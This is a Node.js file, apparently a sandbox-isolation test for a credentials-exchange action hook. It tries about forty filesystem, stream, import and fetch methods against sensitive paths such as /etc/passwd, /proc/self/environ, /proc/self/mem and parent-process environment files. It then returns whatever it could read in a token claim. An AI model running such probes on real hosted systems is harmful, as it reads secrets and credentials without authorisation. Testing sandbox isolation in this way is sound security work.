// outcome: completed; claim read=[]; beside served
const fs = require('node:fs')
const { once } = require('node:events')
const ways = {
  readFileSync: (path) => fs.readFileSync(path),
  'readFileSync of a URL': (path) => fs.readFileSync(new URL(`file://${path}`)),
  'readFileSync of a Buffer': (path) => fs.readFileSync(Buffer.from(path)),
  'readFileSync around a corner': (path) => fs.readFileSync(`${__dirname}/../../../../../..${path}`),
  'readFileSync of a long way': (path) => fs.readFileSync(`${__dirname}//./..//${'../'.repeat(20)}${path}`),
  readFile: (path) =>
    new Promise((resolve, reject) => fs.readFile(path, (error, data) => (error ? reject(error) : resolve(data)))),
  'promises.readFile': (path) => fs.promises.readFile(path),
  'promises.open': async (path) => (await fs.promises.open(path)).readFile(),
  'promises, imported': async (path) => (await import('node:fs/promises')).readFile(path),
  openSync: (path) => fs.openSync(path),
  openAsBlob: async (path) => (await fs.openAsBlob(path)).text(),
  createReadStream: async (path) => (await once(fs.createReadStream(path), 'data'))[0],
  ReadStream: async (path) => (await once(new fs.ReadStream(path), 'data'))[0],
  statSync: (path) => fs.statSync(path),
  lstatSync: (path) => fs.lstatSync(path),
  existsSync: (path) => fs.existsSync(path),
  accessSync: (path) => fs.accessSync(path) ?? true,
  readlinkSync: (path) => fs.readlinkSync(path),
  realpathSync: (path) => fs.realpathSync(path),
  'realpathSync.native': (path) => fs.realpathSync.native(path),
  'promises.realpath': (path) => fs.promises.realpath(path),
  realpath: (path) =>
    new Promise((resolve, reject) => fs.realpath(path, (error, real) => (error ? reject(error) : resolve(real)))),
  readdirSync: (path) => fs.readdirSync(path),
  'readdirSync, recursive': (path) => fs.readdirSync(path, { recursive: true }),
  opendirSync: (path) => fs.opendirSync(path),
  globSync: (path) => fs.globSync(`${path}/*`).length > 0,
  watch: (path) => fs.watch(path),
  watchFile: (path) => fs.watchFile(path, () => {}) && false,
  statfsSync: (path) => fs.statfsSync(path),
  copyFileSync: (path) => fs.copyFileSync(path, `${__dirname}/copy`) ?? true,
  cpSync: (path) => fs.cpSync(path, `${__dirname}/copy`, { recursive: true }) ?? true,
  linkSync: (path) => fs.linkSync(path, `${__dirname}/link`) ?? true,
  symlinkSync: (path) => fs.symlinkSync(path, `${__dirname}/symlink`) ?? fs.readFileSync(`${__dirname}/symlink`),
  loadEnvFile: (path) => process.loadEnvFile(path) ?? true,
  require: (path) => require(path),
  import: (path) => import(path),
  'import of JSON': (path) => import(path, { with: { type: 'json' } }),
  fetch: async (path) => (await fetch(`file://${path}`)).text(),
  'a secure context': (path) => require('node:tls').createSecureContext({ ca: fs.readFileSync(path) }),
  findPackageJSON: (path) => require('node:module').findPackageJSON(path),
}
exports.onExecuteCredentialsExchange = async (event, api) => {
  const { data, parent } = event.request.body
  const paths = [
    '/etc/passwd',
    '/proc/self/environ',
    '/proc/self/maps',
    '/proc/self/mem',
    '/proc/self/fd/3',
    '/proc/self/cwd/../..',
  ]
  paths.push(
    `/proc/${parent}/environ`,
    `/proc/${parent}/fd`,
    `/proc/${process.ppid}/mem`,
    `${data}/config.db`,
    data,
    '/',
    '/tmp',
    process.execPath,
  )
  const read = []
  for (const path of paths) {
    for (const [name, open] of Object.entries(ways)) {
      try {
        const got = await Promise.race([open(path), new Promise((resolve) => setTimeout(resolve, 200))])
        if (got !== undefined && got !== false) read.push(`${name} ${path}`)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('read', read)
}
